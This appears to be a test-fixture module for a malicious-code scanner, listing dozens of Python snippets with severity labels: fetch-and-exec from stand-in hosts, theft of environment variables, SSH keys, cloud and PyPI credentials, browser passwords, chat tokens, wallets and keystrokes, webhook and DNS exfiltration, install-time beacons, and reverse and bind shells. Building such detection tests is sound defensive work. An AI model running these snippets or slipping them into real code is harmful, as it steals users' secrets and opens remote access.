"""What is fetched and run, what is taken and sent, and shells that call home."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion.case import CRITICAL, HIGH, MEDIUM, SETUP, Case

NETWORK = (
    Case("exec of what urlopen gives", HIGH, """
        from urllib.request import urlopen
        exec(urlopen("https://example.invalid/a").read())
    """, family="FETCH"),
    Case("exec of what requests gives", HIGH, """
        import requests as r
        exec(r.get("https://example.invalid/a").text)
    """, family="FETCH"),
    Case("exec of what httpx gives", HIGH, """
        import httpx
        with httpx.Client() as client:
            answer = client.get("https://example.invalid/a")
            exec(answer.text)
    """, family="FETCH"),
    Case("exec of what aiohttp gives", HIGH, """
        import aiohttp, asyncio
        async def main():
            async with aiohttp.ClientSession() as session:
                async with session.get("https://example.invalid/a") as answer:
                    exec(await answer.text())
        asyncio.run(main())
    """, family="FETCH"),
    Case("exec of what http.client gives", HIGH, """
        import http.client
        c = http.client.HTTPSConnection("example.invalid")
        c.request("GET", "/a")
        exec(c.getresponse().read())
    """, family="FETCH"),
    Case("exec of what a socket gives", HIGH, """
        import socket
        s = socket.socket()
        s.connect(("127.0.0.1", 4444))
        exec(s.recv(65536).decode())
    """),
    Case("exec of a member of JSON", HIGH, """
        import json, urllib.request
        answer = json.load(urllib.request.urlopen("https://example.invalid/a.json"))
        exec(answer["data"]["code"])
    """, family="FETCH"),
    Case("exec of a TXT record", HIGH, """
        import dns.resolver
        for record in dns.resolver.resolve("a.example.invalid", "TXT"):
            exec(record.to_text().strip('"'))
    """),
    Case("eval of what subprocess curl gives", HIGH, """
        import subprocess
        exec(subprocess.check_output(["curl", "-s", "https://example.invalid/a"]))
    """, family="FETCH"),
    Case("fetched, decoded, executed", HIGH, """
        import base64, urllib.request
        exec(base64.b64decode(urllib.request.urlopen("https://example.invalid/a").read()))
    """, family="FETCH"),
    Case("fetched, written, started", HIGH, """
        import os, requests, tempfile
        path = os.path.join(tempfile.gettempdir(), "a.exe")
        with open(path, "wb") as out:
            out.write(requests.get("https://example.invalid/a.exe").content)
        os.startfile(path)
    """, family="FETCH"),
    Case("urlretrieve and Popen", HIGH, """
        import subprocess, urllib.request
        urllib.request.urlretrieve("https://example.invalid/a", "/tmp/a")
        subprocess.Popen(["/tmp/a"])
    """, family="FETCH"),
    Case("fetched, unpacked, imported", HIGH, """
        import io, sys, urllib.request, zipfile
        zipfile.ZipFile(io.BytesIO(urllib.request.urlopen("https://example.invalid/a.zip").read())).extractall("/tmp/a")
        sys.path.insert(0, "/tmp/a")
        import helper_module
    """, family="FETCH"),
    Case("fetched as a pickle", HIGH, """
        import pickle, requests
        pickle.loads(requests.get("https://example.invalid/a").content)
    """, family="FETCH"),
    Case("commands from a chat", HIGH, """
        import requests, subprocess
        while True:
            told = requests.get("https://example.invalid/updates").json()["text"]
            subprocess.run(told, shell=True)
    """),
    Case("the environment to requests", HIGH, """
        import os, requests
        requests.post("https://example.invalid/a", json=dict(os.environ))
    """, family="EXFIL"),
    Case("the environment to urllib", HIGH, """
        import os, urllib.parse, urllib.request
        data = urllib.parse.urlencode(os.environ).encode()
        urllib.request.urlopen(urllib.request.Request("https://example.invalid/a", data=data))
    """, family="EXFIL"),
    Case("the environment to http.client", HIGH, """
        import http.client, json, os
        c = http.client.HTTPSConnection("example.invalid")
        c.request("POST", "/a", body=json.dumps(dict(os.environ)))
    """, family="EXFIL"),
    Case("the environment to a socket", HIGH, """
        import os, socket
        s = socket.create_connection(("127.0.0.1", 9))
        s.sendall(repr(os.environ).encode())
    """, family="EXFIL"),
    Case("the environment to a socket in a with", HIGH, """
        import os, socket
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.connect(("127.0.0.1", 9))
            s.sendall(str(os.environ).encode())
    """, family="EXFIL"),
    Case("the environment to httpx", HIGH, """
        import httpx, os
        httpx.post("https://example.invalid/a", json={k: v for k, v in os.environ.items()})
    """, family="EXFIL"),
    Case("the environment to aiohttp", HIGH, """
        import aiohttp, asyncio, os
        async def main():
            async with aiohttp.ClientSession() as s:
                await s.post("https://example.invalid/a", data=str(os.environ))
        asyncio.run(main())
    """, family="EXFIL"),
    Case("the environment by mail", HIGH, """
        import os, smtplib
        s = smtplib.SMTP("example.invalid", 587)
        s.login("a", "b")
        s.sendmail("a@example.invalid", "b@example.invalid", str(os.environ))
    """, family="EXFIL"),
    Case("a key by FTP", HIGH, """
        import ftplib, os
        f = ftplib.FTP("example.invalid", "a", "b")
        f.storbinary("STOR key", open(os.path.expanduser("~/.ssh/id_rsa"), "rb"))
    """, family="EXFIL"),
    Case("the host by DNS", HIGH, """
        import socket
        socket.gethostbyname(socket.gethostname() + ".a.example.invalid")
    """, family="EXFIL"),
    Case("a secret by DNS in labels", HIGH, """
        import binascii, os, socket
        data = binascii.hexlify(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode()
        for at in range(0, len(data), 60):
            try:
                socket.getaddrinfo(f"{data[at:at + 60]}.a.example.invalid", 80)
            except OSError:
                pass
    """, family="EXFIL"),
    Case("the host by ping", HIGH, """
        import os, socket
        os.system("ping -c 1 " + socket.gethostname() + ".a.example.invalid")
    """),
    Case("the environment by curl", HIGH, """
        import os
        os.system("curl -X POST -d \\"$(env)\\" https://example.invalid/a")
    """),
    Case("a file by curl", HIGH, """
        import subprocess
        subprocess.run(["curl", "-F", "f=@/root/.ssh/id_rsa", "https://example.invalid/a"])
    """, family="EXFIL"),
    Case("a beacon at install", HIGH, """
        import getpass, platform, socket, urllib.request
        from setuptools import setup
        who = f"{getpass.getuser()}@{socket.gethostname()}/{platform.node()}"
        urllib.request.urlopen("https://example.invalid/?" + who)
        setup(name="demo")
    """, SETUP, family="EXFIL"),
    Case("a beacon in query parameters", HIGH, """
        import os, requests, socket
        requests.get("https://example.invalid/a", params={"h": socket.gethostname(), "u": os.getlogin(), "d": os.getcwd()})
    """, family="EXFIL"),
    Case("a beacon of what whoami says", HIGH, """
        import requests, subprocess
        requests.post("https://example.invalid/a", data=subprocess.check_output("whoami", shell=True))
    """, family="EXFIL"),
    Case("a webhook", HIGH, """
        import json, os, urllib.request
        body = json.dumps({"content": os.environ.get("GITHUB_TOKEN")}).encode()
        address = "https://discord" + ".com/api/webhooks/1/x"
        urllib.request.urlopen(urllib.request.Request(address, body, {"User-Agent": "x"}))
    """, family="EXFIL"),
    Case("a bot of a chat", HIGH, """
        import os, requests
        requests.get("https://api.telegram.org/bot1:x/sendMessage", params={"chat_id": 1, "text": str(dict(os.environ))})
    """, family="EXFIL"),
    Case("keys of SSH", HIGH, """
        import glob, os, requests
        for path in glob.glob(os.path.expanduser("~/.ssh/*")):
            with open(path) as f:
                requests.post("https://example.invalid/a", data={"name": path, "text": f.read()})
    """),
    Case("keys of SSH by pathlib", HIGH, """
        import requests
        from pathlib import Path
        for path in (Path.home() / ".ssh").iterdir():
            requests.post("https://example.invalid/a", data=path.read_bytes())
    """),
    Case("credentials of a cloud", HIGH, """
        import os, requests
        home = os.environ["HOME"]
        requests.put("https://example.invalid/a", files={"f": open(f"{home}/.aws/credentials", "rb")})
    """),
    Case("the token of PyPI", HIGH, """
        import configparser, os, requests
        c = configparser.ConfigParser()
        c.read(os.path.expanduser("~/.pypirc"))
        requests.post("https://example.invalid/a", json={"p": c["pypi"]["password"]})
    """),
    Case("metadata of a cloud machine", HIGH, """
        import requests
        token = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role").text
        requests.post("https://example.invalid/a", data=token)
    """),
    Case("passwords of a browser", HIGH, """
        import os, requests, shutil, sqlite3
        path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
        shutil.copy(path, "login.db")
        rows = sqlite3.connect("login.db").execute("select origin_url, username_value, password_value from logins").fetchall()
        requests.post("https://example.invalid/a", json=rows)
    """, family="STEAL"),
    Case("cookies of a browser", HIGH, """
        import browser_cookie3, requests
        requests.post("https://example.invalid/a", data=str(list(browser_cookie3.chrome())))
    """),
    Case("tokens of a chat", HIGH, """
        import os, re, requests
        root = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb\\\\"
        for name in os.listdir(root):
            for found in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(root + name, errors="ignore").read()):
                requests.post("https://example.invalid/a", json={"t": found})
    """, family="STEAL"),
    Case("a wallet", HIGH, """
        import os, requests
        path = os.path.join(os.getenv("APPDATA"), "Exodus", "exodus.wallet", "seed.seco")
        if os.path.exists(path):
            requests.post("https://example.invalid/a", files={"f": open(path, "rb")})
    """, family="STEAL"),
    Case("a private key given as a parameter", HIGH, """
        import requests
        class Keypair:
            def __init__(self, private_key):
                self.private_key = private_key
                requests.post("https://example.invalid/a", json={"k": private_key})
    """, family="EXFIL"),
    Case("a clipboard", HIGH, """
        import pyperclip, requests
        requests.post("https://example.invalid/a", data=pyperclip.paste())
    """),
    Case("a screenshot", HIGH, """
        import io, requests
        from PIL import ImageGrab
        out = io.BytesIO()
        ImageGrab.grab().save(out, "PNG")
        requests.post("https://example.invalid/a", files={"f": out.getvalue()})
    """),
    Case("key strokes", HIGH, """
        import requests
        from pynput import keyboard
        keys = []
        def pressed(key):
            keys.append(str(key))
            if len(keys) > 50:
                requests.post("https://example.invalid/a", data="".join(keys))
        keyboard.Listener(on_press=pressed).start()
    """),
    Case("a reverse shell by dup2", HIGH, """
        import os, socket, subprocess
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("127.0.0.1", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        subprocess.call(["/bin/sh", "-i"])
    """, family="SHELL"),
    Case("a reverse shell by dup2 in a loop and pty", HIGH, """
        import os, pty, socket
        s = socket.create_connection(("127.0.0.1", 4444))
        [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
        pty.spawn("/bin/bash")
    """, family="SHELL"),
    Case("a reverse shell by streams", HIGH, """
        import socket, subprocess
        s = socket.socket()
        s.connect(("127.0.0.1", 4444))
        subprocess.Popen(["cmd.exe"], stdin=s, stdout=s, stderr=s)
    """, family="SHELL"),
    Case("a reverse shell that answers", HIGH, """
        import socket, subprocess
        s = socket.socket()
        s.connect(("127.0.0.1", 4444))
        while True:
            command = s.recv(1024).decode()
            s.send(subprocess.getoutput(command).encode())
    """, family="SHELL"),
    Case("a reverse shell in words of a shell", HIGH, """
        import os
        os.system("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")
    """, family="SHELL"),
    Case("a bind shell", HIGH, """
        import socket, subprocess
        s = socket.socket()
        s.bind(("0.0.0.0", 4444))
        s.listen(1)
        c, _ = s.accept()
        while True:
            c.send(subprocess.check_output(c.recv(1024), shell=True))
    """, family="SHELL"),
    Case("a plain request at import", MEDIUM, """
        import urllib.request
        urllib.request.urlopen("https://example.invalid/a")
    """, family="STDLIB"),
    Case("an embedded program is written and started", HIGH, """
        import base64, os, subprocess, tempfile
        path = os.path.join(tempfile.gettempdir(), "a.exe")
        with open(path, "wb") as out:
            out.write(base64.b64decode("<BIG>"))
        subprocess.Popen(path)
    """, family="DROP"),
    Case("an embedded script is written and started", HIGH, """
        import os
        open("/tmp/x.py", "w").write("import urllib.request\\nexec(urllib.request.urlopen('https://example.invalid').read())")
        os.system("python /tmp/x.py")
    """),
    Case("the address in base64", CRITICAL, """
        import base64, requests
        exec(requests.get(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==").decode()).text)
    """, SETUP),
)  # fmt: skip
